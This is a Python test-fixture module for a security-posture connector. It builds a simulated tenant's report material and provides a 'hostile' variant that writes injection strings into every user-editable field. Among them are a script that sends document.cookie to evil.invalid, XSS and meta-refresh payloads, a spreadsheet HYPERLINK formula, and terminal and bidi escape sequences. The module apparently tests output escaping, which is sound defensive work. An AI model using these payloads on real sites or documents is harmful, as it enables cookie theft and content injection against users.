"""Material for reports: a simulated tenant's days folded as a poll would fold them, and texts that mean harm."""

from datetime import UTC, date, datetime, timedelta
from functools import cache

from attrs import evolve

from connector.app import severity_rules
from connector.clock import iso
from connector.model import Profile, Snapshot, StateUpdate
from connector.observe.events import Origin, stamp
from connector.observe.fold import Rules, observe
from connector.observe.memory import Memory
from connector.report.build import period
from connector.report.values import EvidenceFile, Material, Period
from connector.simulator.world import World
from connector.sources.days import parse_days
from connector.sources.profiles import parse_profiles

START = date(2026, 6, 1)
DAYS = 40
LIVE_DAYS = 5

HOSTILE = (
    "<script>fetch('https://evil.invalid/'+document.cookie)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>*{display:none}</style>",
    "</title><meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "javascript:alert(1)",
    '=HYPERLINK("https://evil.invalid","see")',
    "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "\u202eevil\u2066 \u200fmarks",
    "&lt;b&gt; &amp; &#60;i&#62;",
    "宽字符 and 👩‍💻 emoji",
)


@cache
def simulated(seed: int = 7, number: int = 0, size: str = "small") -> Material:
    """A tenant at first contact, then five live days: like a poll a day, without HTTP and without a store."""
    world = World(seed, number + 1, START, sizes=(size,), missing=0.08)
    tenant = world.tenants[number]
    rules, origin = severity_rules(), Origin(tenant.id, tenant.name)
    memory, events = Memory(), []
    first = datetime(START.year, START.month, START.day, 20, tzinfo=UTC) + timedelta(days=DAYS - LIVE_DAYS - 1)
    for live in range(LIVE_DAYS + 1):
        now = first + timedelta(days=live)
        today = now.date().isoformat()
        docs = world.score_documents(tenant.id, now, *([4] if live else []))
        snapshot = Snapshot(
            "graph",
            tuple(reversed(parse_days(docs, tenant.id, "days", today))),
            parse_profiles(world.profiles(tenant.id, now), tenant.id, "profiles").profiles,
        )
        seen = observe(memory, snapshot, Rules(tenant.id), iso(now))
        memory = seen.memory
        events += [stamp(c, origin, iso(now), rules) for c in seen.changes]
    wanted = [e for e in events if e.type == "score.observed" or e.type.split(".")[0] in ("control", "feed", "posture")]
    wanted = [e for e in wanted if e.type != "control.observed"]
    evidence = (EvidenceFile(today, "secureScores-1.json.gz", "ab" * 32, "verified"),)
    return Material(tenant.name, tenant.id, {"customer": "one"}, "graph", memory, tuple(wanted), evidence)


def whole(material: Material) -> Period:
    """The period from the first known day to the last."""
    days = list(material.memory.versions())
    return period(days[0], days[-1])


def hostile(material: Material) -> Material:
    """The same tenant after somebody wrote into every text that Graph lets people write."""
    assert material.memory.profiles is not None
    profiles: dict[str, Profile] = {}
    for number, (name, profile) in enumerate(material.memory.profiles.items()):
        text = HOSTILE[number % len(HOSTILE)]
        updates = profile.updates
        if number < 3 * len(HOSTILE):
            update = StateUpdate("Reviewed" if number % 2 else "Ignored", "2026-06-20T10:00:00Z", text, text, text)
            updates = (*updates, update)
        profiles[name] = evolve(profile, title=text, service=text, tier=text, action_url=text, updates=updates)
    return evolve(
        material,
        name=HOSTILE[0],
        labels={"customer": HOSTILE[1]},
        memory=evolve(material.memory, profiles=profiles),
        problems=HOSTILE[2:3],
    )
